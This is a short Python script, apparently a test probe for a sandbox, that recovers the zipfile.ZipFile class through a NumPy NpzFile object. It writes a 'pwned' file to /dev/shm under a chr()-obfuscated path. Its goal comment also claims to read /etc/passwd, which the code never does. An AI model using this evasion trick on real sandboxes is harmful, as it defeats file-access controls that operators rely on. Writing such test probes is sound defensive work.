# source: numpy 1.24 NpzFile.zip attribute (zipfile.ZipFile); own adaptation of type(obj) class recovery
# family: recovering zipfile.ZipFile from an NpzFile with type() and opening a run-time path for writing
# goal: create /dev/shm/sx345.zip (outside the script's dir) and read /etc/passwd bytes through ZipFile's file object
import json
import numpy as np

np.savez("sx345.npz", a=np.arange(3))
z = np.load("sx345.npz")
Z = type(z.zip)
dest = chr(47) + "dev" + chr(47) + "shm" + chr(47) + "sx345.zip"
w = Z(dest, "w")
w.writestr("pwned.txt", "pwned-345")
w.close()
back = Z(dest).read("pwned.txt").decode()
print(json.dumps({"evidence": back, "dest": dest}))
